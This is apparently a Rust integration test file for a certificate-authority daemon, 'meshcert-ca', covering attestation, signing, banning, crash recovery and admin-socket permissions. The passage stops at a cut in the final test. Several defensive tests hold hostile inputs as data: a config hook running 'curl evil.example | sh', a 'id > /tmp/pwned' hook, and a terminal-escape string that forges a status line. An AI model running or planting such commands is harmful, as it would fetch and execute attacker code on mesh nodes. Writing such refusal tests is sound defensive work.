//! The CA holder end to end: the real `meshcert-ca` process, real mTLS over loopback from a
//! rustls client in the test, the real CLI over the admin socket.

use std::path::Path;
use std::process::Command;

use meshcert_protocol::api::{
    ApiError, AttestRequest, CsrRequest, Der, ErrorCode, NodeSvidResponse, RenewRequest,
    SignOutcome, SignRequest, SignResponse, SyncResponse,
};
use meshcert_protocol::{CertState, IdentityReport, NodeReport, SpiffeId};
use meshcert_tests::ca::{CaHolder, ClientIdentity, EXAMPLE_CONFIG, HttpAnswer};
use meshcert_tests::oracle::uri_sans;
use meshcert_tests::pki::{csr, p256};
use x509_parser::prelude::*;

/// A request body as JSON bytes.
macro_rules! body {
    ($v:expr) => {
        serde_json::to_vec(&$v).expect("serialise")
    };
}

fn api_error(a: &HttpAnswer) -> ApiError {
    serde_json::from_slice(&a.body).unwrap_or_else(|e| {
        panic!(
            "HTTP {} is not an ApiError ({e}): {}",
            a.status,
            String::from_utf8_lossy(&a.body)
        )
    })
}

fn assert_refused(a: &HttpAnswer, code: ErrorCode) {
    let e = api_error(a);
    assert_eq!(e.code, code, "{}", e.message);
    assert_eq!(a.status, code.http_status());
}

/// Attests `node` with a fresh token; returns the node's mTLS identity and the answer.
fn join(ca: &CaHolder, node: &str) -> (ClientIdentity, NodeSvidResponse, String) {
    let token = ca.token(node, "mesh-a").expect("token");
    let key = p256();
    let req = AttestRequest {
        token: token.clone(),
        csr: csr(&key, &[]),
    };
    let a = ca
        .https("POST", "/v1/attest", Some(&body!(req)), None)
        .expect("attest call");
    assert_eq!(a.status, 200, "{}", String::from_utf8_lossy(&a.body));
    let resp: NodeSvidResponse = serde_json::from_slice(&a.body).expect("node SVID answer");
    let identity = ClientIdentity {
        chain: resp.svid.chain.iter().map(|d| d.0.clone()).collect(),
        key_pkcs8: key.serialize_der(),
    };
    (identity, resp, token)
}

/// Asserts that a `meshcert-ca` command was refused with exit code `code` and a message that
/// names each of `words` (the stable error code, a word of the rule).
fn assert_ctl_refused(out: &std::process::Output, code: i32, words: &[&str]) {
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(code), "exit code; stderr: {stderr}");
    for word in words {
        assert!(stderr.contains(word), "`{word}` not in: {stderr}");
    }
}

fn openssl_verify(dir: &Path, root: &[u8], intermediate: &[u8], leaf: &[u8]) -> String {
    let pem = |name: &str, der: &[u8]| {
        let der_path = dir.join(format!("{name}.der"));
        std::fs::write(&der_path, der).expect("write");
        let out = meshcert_tests::output_within(
            Command::new("openssl")
                .args(["x509", "-inform", "DER", "-outform", "PEM", "-in"])
                .arg(&der_path)
                .arg("-out")
                .arg(dir.join(format!("{name}.pem"))),
            meshcert_tests::COMMAND_TIMEOUT,
        )
        .expect("openssl x509 runs");
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    pem("bundle", root);
    pem("intermediate", intermediate);
    pem("leaf", leaf);
    let out = meshcert_tests::output_within(
        Command::new("openssl").current_dir(dir).args([
            "verify",
            "-CAfile",
            "bundle.pem",
            "-untrusted",
            "intermediate.pem",
            "leaf.pem",
        ]),
        meshcert_tests::COMMAND_TIMEOUT,
    )
    .expect("openssl verify runs");
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// Checks a leaf against the X509-SVID rules with x509-parser.
fn assert_x509_svid(der: &[u8], id: &str) {
    let (_, c) = X509Certificate::from_der(der).expect("leaf parses");
    c.subject_alternative_name().expect("ok").expect("SAN");
    assert_eq!(uri_sans(&c).expect("SAN reads"), vec![id]);
    let bc = c
        .basic_constraints()
        .expect("ok")
        .expect("basic constraints");
    assert!(!bc.value.ca);
    let ku = c.key_usage().expect("ok").expect("key usage");
    assert!(ku.critical && ku.value.digital_signature() && !ku.value.key_cert_sign());
    let eku = c.extended_key_usage().expect("ok").expect("eku");
    assert!(eku.value.server_auth && eku.value.client_auth);
    assert!(c.raw_serial().len() <= 20);
}

#[test]
fn a_node_attests_syncs_renews_signs_and_is_banned() {
    let ca = CaHolder::start(EXAMPLE_CONFIG).expect("holder starts");
    let (node, resp, token) = join(&ca, "node-1");
    assert_eq!(
        resp.svid.spiffe_id.to_string(),
        "spiffe://mesh-a.test/meshcert/node/node-1"
    );
    assert_eq!(resp.svid.chain.len(), 2, "leaf + intermediate");
    assert_x509_svid(
        &resp.svid.chain[0].0,
        "spiffe://mesh-a.test/meshcert/node/node-1",
    );

    // The token is single-use.
    let replay = AttestRequest {
        token,
        csr: csr(&p256(), &[]),
    };
    let a = ca
        .https("POST", "/v1/attest", Some(&body!(replay)), None)
        .expect("call");
    assert_refused(&a, ErrorCode::TokenUsed);

    // Sync: the node's entries and bundles.
    let a = ca
        .https("GET", "/v1/sync", None, Some(&node))
        .expect("sync");
    assert_eq!(a.status, 200, "{}", String::from_utf8_lossy(&a.body));
    let sync: SyncResponse = serde_json::from_slice(&a.body).expect("sync answer");
    assert_eq!(sync.node, "node-1");
    assert_eq!(sync.entries.len(), 1);
    assert_eq!(sync.entries[0].id, "web");
    let td = sync.trust_domain.clone();
    let bundle = sync.bundles.trust_domains[&td][0].0.clone();

    // Renew the node SVID with a new key; the new SVID works for later calls.
    let new_key = p256();
    let a = ca
        .https(
            "POST",
            "/v1/node/renew",
            Some(&body!(RenewRequest {
                csr: csr(&new_key, &[]),
            })),
            Some(&node),
        )
        .expect("renew");
    assert_eq!(a.status, 200, "{}", String::from_utf8_lossy(&a.body));
    let renewed: NodeSvidResponse = serde_json::from_slice(&a.body).expect("renew answer");
    assert_ne!(renewed.svid.chain[0], resp.svid.chain[0]);
    let node = ClientIdentity {
        chain: renewed.svid.chain.iter().map(|d| d.0.clone()).collect(),
        key_pkcs8: new_key.serialize_der(),
    };

    // A batch: one good CSR, one with the wrong SAN, one for an unknown entry.
    let web_key = p256();
    let web = "spiffe://mesh-a.test/web";
    let batch = SignRequest {
        csrs: vec![
            CsrRequest {
                entry_id: "web".into(),
                csr: csr(&web_key, &[web]),
                local: None,
            },
            CsrRequest {
                entry_id: "web".into(),
                csr: csr(&p256(), &["spiffe://mesh-a.test/admin"]),
                local: None,
            },
            CsrRequest {
                entry_id: "nope".into(),
                csr: csr(&p256(), &[web]),
                local: None,
            },
        ],
    };
    let a = ca
        .https("POST", "/v1/sign", Some(&body!(batch)), Some(&node))
        .expect("sign");
    assert_eq!(a.status, 200, "{}", String::from_utf8_lossy(&a.body));
    let signed: SignResponse = serde_json::from_slice(&a.body).expect("sign answer");
    assert_eq!(signed.results.len(), 3);
    let SignOutcome::Issued { svid, .. } = &signed.results[0].outcome else {
        panic!("the good CSR was refused: {:?}", signed.results[0]);
    };
    assert_eq!(svid.spiffe_id, SpiffeId::new(web).expect("id"));
    let codes: Vec<Option<ErrorCode>> = signed
        .results
        .iter()
        .map(|r| match &r.outcome {
            SignOutcome::Refused { error } => Some(error.code),
            SignOutcome::Issued { .. } => None,
        })
        .collect();
    assert_eq!(
        codes,
        vec![
            None,
            Some(ErrorCode::SanMismatch),
            Some(ErrorCode::UnknownEntry)
        ]
    );
    let leaf = &svid.chain[0].0;
    assert_x509_svid(leaf, web);
    let (_, parsed) = X509Certificate::from_der(leaf).expect("parse");
    assert_eq!(
        parsed.public_key().raw,
        rcgen::PublicKeyData::subject_public_key_info(&web_key).as_slice(),
        "the leaf carries the CSR's key"
    );

    // The chain verifies with openssl against the bundle.
    let dir = tempfile::tempdir().expect("tempdir");
    let verdict = openssl_verify(dir.path(), &bundle, &svid.chain[1].0, leaf);
    assert!(verdict.contains("leaf.pem: OK"), "{verdict}");
    assert_eq!(
        std::fs::read(ca.bundle_pem_path())
            .map(|b| !b.is_empty())
            .ok(),
        Some(true)
    );

    // Ban: the node's very next call fails.
    let out = ca.ctl(&["node", "ban", "node-1"]).expect("ctl");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let a = ca
        .https("GET", "/v1/sync", None, Some(&node))
        .expect("sync");
    assert_refused(&a, ErrorCode::NodeBanned);
    let a = ca
        .https("POST", "/v1/sign", Some(&body!(batch)), Some(&node))
        .expect("sign");
    assert_refused(&a, ErrorCode::NodeBanned);
    // A fresh token does not bring a banned node back.
    let again = AttestRequest {
        token: ca.token("node-1", "mesh-a").expect("token"),
        csr: csr(&p256(), &[]),
    };
    let a = ca
        .https("POST", "/v1/attest", Some(&body!(again)), None)
        .expect("attest");
    assert_refused(&a, ErrorCode::NodeBanned);
}

#[test]
fn calls_without_a_valid_node_identity_are_refused() {
    let ca = CaHolder::start(EXAMPLE_CONFIG).expect("holder starts");
    let a = ca.https("GET", "/v1/sync", None, None).expect("call");
    assert_refused(&a, ErrorCode::Unauthenticated);

    let bogus = AttestRequest {
        token: "not-a-token".into(),
        csr: csr(&p256(), &[]),
    };
    let a = ca
        .https("POST", "/v1/attest", Some(&body!(bogus)), None)
        .expect("call");
    assert_refused(&a, ErrorCode::InvalidToken);

    let a = ca
        .https("POST", "/v1/attest", Some(b"{not json"), None)
        .expect("call");
    assert_refused(&a, ErrorCode::BadRequest);

    let a = ca.https("GET", "/v1/nothing", None, None).expect("call");
    assert_refused(&a, ErrorCode::NotFound);
    let a = ca
        .https("POST", "/v1/sync", Some(b"{}"), None)
        .expect("call");
    assert_refused(&a, ErrorCode::MethodNotAllowed);

    // An expired token.
    let out = ca
        .ctl(&[
            "token", "create", "--node", "node-2", "--mesh", "mesh-a", "--ttl", "1s",
        ])
        .expect("ctl");
    assert!(out.status.success());
    let expired = AttestRequest {
        token: String::from_utf8_lossy(&out.stdout).trim().to_owned(),
        csr: csr(&p256(), &[]),
    };
    // The token must outlive its 1 s TTL (stored in whole seconds): the sleep is the point.
    std::thread::sleep(std::time::Duration::from_millis(2100));
    let a = ca
        .https("POST", "/v1/attest", Some(&body!(expired)), None)
        .expect("call");
    assert_refused(&a, ErrorCode::TokenExpired);

    // A CSR that is not one does not burn the token.
    let token = ca.token("node-3", "mesh-a").expect("token");
    let garbage = AttestRequest {
        token: token.clone(),
        csr: Der(b"garbage".to_vec()),
    };
    let a = ca
        .https("POST", "/v1/attest", Some(&body!(garbage)), None)
        .expect("call");
    assert_refused(&a, ErrorCode::BadCsr);
    let good = AttestRequest {
        token,
        csr: csr(&p256(), &[]),
    };
    let a = ca
        .https("POST", "/v1/attest", Some(&body!(good)), None)
        .expect("call");
    assert_eq!(a.status, 200, "{}", String::from_utf8_lossy(&a.body));

    // The bundle is public.
    let a = ca.https("GET", "/v1/bundle", None, None).expect("call");
    assert_eq!(a.status, 200);
    assert!(a.json().expect("json")["trustDomains"]["mesh-a.test"].is_array());

    // A token for a mesh that does not exist is refused at creation.
    let out = ca
        .ctl(&["token", "create", "--node", "n", "--mesh", "mesh-z"])
        .expect("ctl");
    assert_ctl_refused(
        &out,
        1,
        &["wrong_mesh", "`mesh-z` is not part of this virtual mesh"],
    );
}

#[test]
fn an_oversized_body_gets_413() {
    let ca = CaHolder::start(EXAMPLE_CONFIG).expect("holder starts");
    let size = meshcert_protocol::api::MAX_BODY_BYTES + 1;
    // Declared too large: refused before the body is read.
    let req = format!(
        "POST /v1/attest HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {size}\r\n\r\n{{"
    );
    let a = ca.https_raw(req.as_bytes(), None).expect("call");
    assert_refused(&a, ErrorCode::BodyTooLarge);
    // Chunked, with no declared length: refused once the limit is crossed.
    let mut req = b"POST /v1/attest HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
    let chunk = vec![b' '; 64 * 1024];
    for _ in 0..(size / chunk.len() + 1) {
        req.extend_from_slice(format!("{:x}\r\n", chunk.len()).as_bytes());
        req.extend_from_slice(&chunk);
        req.extend_from_slice(b"\r\n");
    }
    req.extend_from_slice(b"0\r\n\r\n");
    let a = ca.https_raw(&req, None).expect("call");
    assert_refused(&a, ErrorCode::BodyTooLarge);
}

#[test]
fn reports_reach_the_status() {
    let ca = CaHolder::start(EXAMPLE_CONFIG).expect("holder starts");
    let (node, _, _) = join(&ca, "node-1");
    let report = NodeReport {
        bundle_version: 1,
        enforcement: None,
        identities: vec![IdentityReport {
            entry_id: "web".into(),
            spiffe_id: SpiffeId::new("spiffe://mesh-a.test/web").expect("id"),
            state: CertState::Issued,
            serial: Some("0a".into()),
            not_after: Some(1_900_000_000),
            next_rotation: None,
            last_error: None,
            attempts: 0,
        }]
        .into(),
        node_svid: None,
    };
    let a = ca
        .https("POST", "/v1/report", Some(&body!(report)), Some(&node))
        .expect("report");
    assert_eq!(a.status, 200, "{}", String::from_utf8_lossy(&a.body));
    let out = ca.ctl(&["status", "-o", "json"]).expect("status");
    assert!(out.status.success());
    let status: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(status["configStatus"]["state"], "ACCEPTED");
    let cs = &status["certificateStatus"];
    assert_eq!(cs["root"]["keyBits"], 2048);
    assert_eq!(cs["root"]["org"], "meshcert-tests");
    assert_eq!(cs["intermediates"][0]["trustDomain"], "mesh-a.test");
    assert_eq!(cs["svidsIssued"], 1);
    let n = &cs["nodes"][0];
    assert_eq!(n["name"], "node-1");
    assert_eq!(n["stale"], false);
    assert_eq!(n["bundleVersion"], 1);
    assert_eq!(n["identities"][0]["state"], "ISSUED");
    // The table names the node and its identity.
    let out = ca.ctl(&["status"]).expect("status");
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(
        table.contains("node-1") && table.contains("spiffe://mesh-a.test/web"),
        "{table}"
    );
    let out = ca.ctl(&["status", "-o", "yaml"]).expect("status");
    assert!(String::from_utf8_lossy(&out.stdout).contains("configStatus:"));
}

#[test]
fn entries_are_managed_from_the_command_line() {
    let ca = CaHolder::start(EXAMPLE_CONFIG).expect("holder starts");
    let out = ca
        .ctl(&[
            "entry",
            "create",
            "--spiffe-id",
            "spiffe://mesh-a.test/db",
            "--node",
            "node-1",
            "--selector",
            "unix:uid:70",
            "--ttl",
            "30m",
            "--owner",
            "70:70",
        ])
        .expect("ctl");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let id = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    let out = ca.ctl(&["entry", "list", "-o", "json"]).expect("ctl");
    let list: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(list.as_array().map(Vec::len), Some(2));
    // An entry outside the trust domain is refused with the reason.
    let out = ca
        .ctl(&[
            "entry",
            "create",
            "--spiffe-id",
            "spiffe://other.test/db",
            "--mesh",
            "mesh-a",
        ])
        .expect("ctl");
    assert_eq!(out.status.code(), Some(64));
    assert!(String::from_utf8_lossy(&out.stderr).contains("trust domain"));
    // The node sees the new entry.
    let (node, _, _) = join(&ca, "node-1");
    let a = ca
        .https("GET", "/v1/sync", None, Some(&node))
        .expect("sync");
    let sync: SyncResponse = serde_json::from_slice(&a.body).expect("sync");
    assert!(sync.entries.iter().any(|e| e.id == id));
    let out = ca.ctl(&["entry", "delete", &id]).expect("ctl");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = ca.ctl(&["entry", "delete", "web"]).expect("ctl");
    // Config entries are not deleted over the socket.
    assert_ctl_refused(
        &out,
        64,
        &["bad_request", "`web` is declared in the configuration file"],
    );
}

#[test]
fn acknowledged_work_survives_kill_9() {
    let mut ca = CaHolder::start(EXAMPLE_CONFIG).expect("holder starts");
    let root_before = std::fs::read(ca.bundle_pem_path()).expect("root");
    let (node, resp, token) = join(&ca, "node-1");
    let node_serial = X509Certificate::from_der(&resp.svid.chain[0].0)
        .expect("parse")
        .1
        .raw_serial_as_string()
        .replace(':', "");
    let batch = SignRequest {
        csrs: vec![CsrRequest {
            entry_id: "web".into(),
            csr: csr(&p256(), &["spiffe://mesh-a.test/web"]),
            local: None,
        }],
    };
    let a = ca
        .https("POST", "/v1/sign", Some(&body!(batch)), Some(&node))
        .expect("sign");
    assert_eq!(a.status, 200);
    let signed: SignResponse = serde_json::from_slice(&a.body).expect("sign");
    let SignOutcome::Issued { svid, .. } = &signed.results[0].outcome else {
        panic!("refused: {:?}", signed.results[0]);
    };
    let web_serial = X509Certificate::from_der(&svid.chain[0].0)
        .expect("parse")
        .1
        .raw_serial_as_string()
        .replace(':', "");

    ca.kill9();
    ca.restart().expect("restart");

    assert_eq!(
        std::fs::read(ca.bundle_pem_path()).expect("root"),
        root_before,
        "the root is reused"
    );
    let out = ca.ctl(&["issuances", "-o", "json"]).expect("ctl");
    let list: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let serials: Vec<&str> = list
        .as_array()
        .expect("array")
        .iter()
        .filter_map(|i| i["serial"].as_str())
        .collect();
    assert!(
        serials.contains(&node_serial.as_str()),
        "{serials:?} vs {node_serial}"
    );
    assert!(
        serials.contains(&web_serial.as_str()),
        "{serials:?} vs {web_serial}"
    );
    let out = ca.ctl(&["node", "list", "-o", "json"]).expect("ctl");
    let nodes: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(nodes[0]["name"], "node-1");

    let replay = AttestRequest {
        token,
        csr: csr(&p256(), &[]),
    };
    let a = ca
        .https("POST", "/v1/attest", Some(&body!(replay)), None)
        .expect("call");
    assert_refused(&a, ErrorCode::TokenUsed);
    // The node SVID issued before the crash still authenticates the node.
    let a = ca
        .https("GET", "/v1/sync", None, Some(&node))
        .expect("sync");
    assert_eq!(a.status, 200);
}

#[test]
fn sigterm_stops_the_holder_cleanly() {
    let mut ca = CaHolder::start(EXAMPLE_CONFIG).expect("holder starts");
    let status = ca.terminate().expect("terminate");
    assert_eq!(status.code(), Some(0));
    assert!(!ca.admin_socket().exists(), "the admin socket is removed");
}

#[test]
fn an_invalid_config_exits_78_and_writes_nothing() {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = dir.path().join("bad.yaml");
    let text = EXAMPLE_CONFIG
        .replace("trustDomain: mesh-a.test", "trustDomain: Mesh_A")
        .replace("rsaKeySizeBytes: 2048", "rsaKeySizeBytes: 1024");
    std::fs::write(&config, text).expect("write");
    let state = dir.path().join("state");
    let socket = dir.path().join("admin.sock");
    let out = meshcert_tests::output_within(
        Command::new(meshcert_tests::bin_path("meshcert-ca"))
            .arg("run")
            .arg("--config")
            .arg(&config)
            .arg("--state-dir")
            .arg(&state)
            .arg("--admin-socket")
            .arg(&socket)
            .arg("--listen")
            .arg("127.0.0.1:0"),
        meshcert_tests::COMMAND_TIMEOUT,
    )
    .expect("runs");
    assert_eq!(out.status.code(), Some(78));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("spec.meshes[0].trustDomain"), "{stderr}");
    assert!(
        stderr.contains("spec.certificateAuthority.builtin.rsaKeySizeBytes"),
        "{stderr}"
    );
    assert!(!state.exists(), "no state folder");
    assert!(!socket.exists(), "no socket");

    let out = meshcert_tests::output_within(
        Command::new(meshcert_tests::bin_path("meshcert-ca"))
            .arg("validate")
            .arg("--config")
            .arg(&config),
        meshcert_tests::COMMAND_TIMEOUT,
    )
    .expect("runs");
    assert_eq!(out.status.code(), Some(78));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("INVALID") && stdout.contains("spec.meshes[0].trustDomain"),
        "{stdout}"
    );

    let out = meshcert_tests::output_within(
        Command::new(meshcert_tests::bin_path("meshcert-ca")).args(["run", "--bogus-flag"]),
        meshcert_tests::COMMAND_TIMEOUT,
    )
    .expect("runs");
    assert_eq!(out.status.code(), Some(64), "bad arguments");
}

#[test]
fn the_example_config_is_valid() {
    let example = Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/examples/virtualmesh.yaml");
    let out = meshcert_tests::output_within(
        Command::new(meshcert_tests::bin_path("meshcert-ca"))
            .arg("validate")
            .arg("--config")
            .arg(&example),
        meshcert_tests::COMMAND_TIMEOUT,
    )
    .expect("runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("ACCEPTED"));
}

#[test]
fn another_user_cannot_use_the_admin_socket() {
    use std::os::unix::fs::PermissionsExt as _;
    // Switching to another user needs root; CI runs as root. Never a silent pass without it.
    assert!(
        nix::unistd::getuid().is_root(),
        "this test acts as another user (setpriv) and must run as root"
    );
    let ca = CaHolder::start(EXAMPLE_CONFIG).expect("holder starts");
    let socket = ca.admin_socket();
    let mode = std::fs::metadata(&socket)
        .expect("socket")
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600, "the socket is owner-only");
    let folder = socket.parent().expect("parent");
    std::fs::set_permissions(folder, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let as_nobody = || {
        meshcert_tests::output_within(
            Command::new("setpriv")
                .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
                .arg(meshcert_tests::bin_path("meshcert-ca"))
                .args(["token", "create", "--node", "n", "--mesh", "mesh-a"])
                .arg("--admin-socket")
                .arg(&socket),
            meshcert_tests::COMMAND_TIMEOUT,
        )
        .expect("setpriv runs")
    };
    // The file mode stops another user...
    let out = as_nobody();
    assert!(out.stdout.is_empty(), "no token printed");
    assert_ctl_refused(&out, 1, &["cannot reach the holder", "Permission denied"]);
    // ...and so does the peer-credential check, even when the mode is opened up.
    std::fs::set_permissions(&socket, std::fs::Permissions::from_mode(0o666)).expect("chmod");
    let out = as_nobody();
    assert!(out.stdout.is_empty(), "no token printed");
    assert_ctl_refused(
        &out,
        1,
        &["unauthenticated", "only root or the holder's user"],
    );
}

#[test]
fn systemd_hears_ready_then_stopping() {
    let dir = tempfile::tempdir().expect("tempdir");
    let notify = dir.path().join("notify.sock");
    let sock = std::os::unix::net::UnixDatagram::bind(&notify).expect("bind");
    sock.set_read_timeout(Some(std::time::Duration::from_secs(60)))
        .expect("timeout");
    let config = dir.path().join("config.yaml");
    std::fs::write(&config, EXAMPLE_CONFIG).expect("write");
    let mut child = meshcert_tests::ChildGuard::spawn(
        meshcert_tests::ca::run_command(&config, dir.path())
            .env("NOTIFY_SOCKET", &notify)
            .stderr(std::process::Stdio::null()),
    )
    .expect("starts");
    let mut buf = [0u8; 256];
    let n = sock.recv(&mut buf).expect("READY arrives");
    let msg = String::from_utf8_lossy(&buf[..n]).to_string();
    assert!(msg.contains("READY=1"), "{msg}");
    assert!(
        dir.path().join("admin.sock").exists(),
        "READY only once the admin socket listens"
    );
    let pid = nix::unistd::Pid::from_raw(i32::try_from(child.id()).expect("pid"));
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGTERM).expect("kill");
    let n = sock.recv(&mut buf).expect("STOPPING arrives");
    assert!(String::from_utf8_lossy(&buf[..n]).contains("STOPPING=1"));
    let status = child
        .wait_within(meshcert_tests::COMMAND_TIMEOUT)
        .expect("exits");
    assert_eq!(status.code(), Some(0));
}

/// One HTTP request over the admin socket; returns the status code and the body.
fn admin_call(socket: &Path, method: &str, path: &str, body: &[u8]) -> (u16, Vec<u8>) {
    use std::io::{Read as _, Write as _};
    let mut s = std::os::unix::net::UnixStream::connect(socket).expect("admin socket");
    s.set_read_timeout(Some(meshcert_tests::COMMAND_TIMEOUT))
        .expect("read timeout");
    s.set_write_timeout(Some(meshcert_tests::COMMAND_TIMEOUT))
        .expect("write timeout");
    let head = format!(
        "{method} {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    s.write_all(head.as_bytes()).expect("write");
    s.write_all(body).expect("write");
    let mut raw = Vec::new();
    s.read_to_end(&mut raw).expect("read");
    let end = raw
        .windows(4)
        .position(|w| w == b"\r\n\r\n")
        .expect("header end");
    let status = String::from_utf8_lossy(&raw[..end])
        .split_whitespace()
        .nth(1)
        .and_then(|c| c.parse().ok())
        .expect("status");
    (status, raw[end + 4..].to_vec())
}

/// The example config's `web` entry with a hook that every assigned node would run.
fn with_hook(config: &str) -> String {
    let text = config.replace(
        "    dir: web\n",
        "    dir: web\n    hook:\n      command: [\"/bin/sh\", \"-c\", \"curl evil.example | sh\"]\n",
    );
    assert!(text.contains("hook:"), "the example config changed shape");
    text
}

#[test]
fn the_holder_refuses_entries_that_carry_a_hook() {
    let ca = CaHolder::start(EXAMPLE_CONFIG).expect("holder starts");
    // The admin API: refused with its own code, and nothing is stored.
    let entry = serde_json::json!({
        "id": "hooked",
        "spiffeId": "spiffe://mesh-a.test/hooked",
        "nodes": ["node-1"],
        "dir": "hooked",
        "hook": {"command": ["/bin/sh", "-c", "id > /tmp/pwned"]}
    });
    let (status, body) = admin_call(&ca.admin_socket(), "POST", "/v1/entries", &body!(entry));
    let e: ApiError = serde_json::from_slice(&body).expect("ApiError");
    assert_eq!(
        (status, e.code),
        (400, ErrorCode::HookNotAllowed),
        "{}",
        e.message
    );
    assert!(e.message.contains("never carry hooks"), "{}", e.message);
    let out = ca.ctl(&["entry", "list", "-o", "json"]).expect("ctl");
    let list: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert!(
        list.as_array()
            .expect("array")
            .iter()
            .all(|e| e["id"] != "hooked"),
        "{list:#}"
    );
    // The same entry without a hook is accepted: the refusal is about the hook only.
    let mut plain = entry.clone();
    plain.as_object_mut().expect("object").remove("hook");
    let (status, _) = admin_call(&ca.admin_socket(), "POST", "/v1/entries", &body!(plain));
    assert_eq!(status, 200);

    // A live edit that adds a hook: INVALID, naming the field; the previous config serves and
    // nodes never see a hook.
    ca.write_config(&with_hook(EXAMPLE_CONFIG)).expect("edit");
    let status = ca
        .wait_for_status("the edit refused", |s| {
            s["configStatus"]["state"] == "INVALID"
        })
        .expect("refused");
    let messages = status["configStatus"]["messages"].to_string();
    assert!(messages.contains("entries[0].hook"), "{messages}");
    let (node, _, _) = join(&ca, "node-1");
    let a = ca
        .https("GET", "/v1/sync", None, Some(&node))
        .expect("sync");
    let sync: SyncResponse = serde_json::from_slice(&a.body).expect("sync");
    assert!(sync.entries.iter().any(|e| e.id == "web"));
    assert!(sync.entries.iter().all(|e| e.hook.is_none()), "{sync:?}");

    // The file at start: exit 78 with the field named, and `validate` agrees.
    let dir = tempfile::tempdir().expect("tempdir");
    let config = dir.path().join("hooked.yaml");
    std::fs::write(&config, with_hook(EXAMPLE_CONFIG)).expect("write");
    let out = meshcert_tests::output_within(
        &mut meshcert_tests::ca::run_command(&config, dir.path()),
        meshcert_tests::COMMAND_TIMEOUT,
    )
    .expect("runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(78), "{stderr}");
    assert!(
        stderr.contains("entries[0].hook") && stderr.contains("never carry hooks"),
        "{stderr}"
    );
    assert!(!dir.path().join("state").exists(), "nothing written");
    let out = meshcert_tests::output_within(
        Command::new(meshcert_tests::bin_path("meshcert-ca"))
            .arg("validate")
            .arg("--config")
            .arg(&config),
        meshcert_tests::COMMAND_TIMEOUT,
    )
    .expect("runs");
    assert_eq!(out.status.code(), Some(78));
}

#[test]
fn node_reported_text_cannot_drive_the_operators_terminal() {
    let ca = CaHolder::start(EXAMPLE_CONFIG).expect("holder starts");
    let (node, _, _) = join(&ca, "node-1");
    // A compromised node reports an error that clears the screen and forges a table line.
    let evil = "denied\x1b[2J\x1b[H\nnode-2       mesh-a       OK\r\u{202e}gnissim";
    let report = NodeReport {
        bundle_version: 1,
        enforcement: None,
        identities: vec![IdentityReport {
            entry_id: "web".into(),
            spiffe_id: SpiffeId::new("spiffe://mesh-a.test/web").expect("id"),
            state: CertState::Failed,
            serial: None,
            not_after: None,
            next_rotation: None,
            last_error: Some(evil.into()),
            attempts: 3,
        }]
        .into(),
        node_svid: None,
    };
    let a = ca
        .https("POST", "/v1/report", Some(&body!(report)), Some(&node))
        .expect("report");
    assert_eq!(a.status, 200, "{}", String::from_utf8_lossy(&a.body));
    let out = ca.ctl(&["status"]).expect("status");
    let table = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        !table.contains('\x1b') && !table.contains('\r') && !table.contains('\u{202e}'),
        "{table:?}"
    );
    assert!(
        table.contains(r"denied\u{1b}[2J\u{1b}[H\u{a}node-2"),
        "escaped, still readable: {table}"
    );
    assert!(
        !table.lines().any(|l| l.starts_with("node-2")),
        "no forged line: {table}"
    );
    // The JSON form keeps the text as reported (JSON escapes it).
    let status = ca.status().expect("status");
    assert_eq!(
        status["certificateStatus"]["nodes"][0]["identities"][0]["lastError"],
        evil
    );
}

#[test]
fn connections_over_the_caps_are_closed_at_once_and_service_resumes_below_them() {
    let config = EXAMPLE_CONFIG.replace(
        "  heartbeat: 30s\n",
        "  heartbeat: 30s\n  maxConnections: 2\n",
    );
    assert!(
        config.contains("maxConnections"),
        "the example config changed shape"
    );
    let ca = CaHolder::start(&config).expect("holder starts");
    // The HTTPS API: two idle TCP connections hold both slots; a third is closed at once.
    let held: Vec<std::net::TcpStream> = (0..2)
        .map(|_| std::net::TcpStream::connect(ca.addr()).expect("connect"))
        .collect();
    let over = ca.https("GET", "/v1/bundle", None, None);
    let closed = over.expect_err("a third connection is served").to_string();
    assert!(
        ["close", "eof", "reset"]
            .iter()
            .any(|w| closed.to_lowercase().contains(w)),
        "the third connection is closed, not refused otherwise: {closed}"
    );
    assert!(
        meshcert_tests::log_has_event(
            &ca.log(),
            "meshcert_daemon",
            "connection cap reached; closing new connections"
        ),
        "{}",
        ca.log()
    );
    drop(held);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        match ca.https("GET", "/v1/bundle", None, None) {
            Ok(a) if a.status == 200 => break,
            other => assert!(
                std::time::Instant::now() < deadline,
                "no service below the cap: {other:?}"
            ),
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }

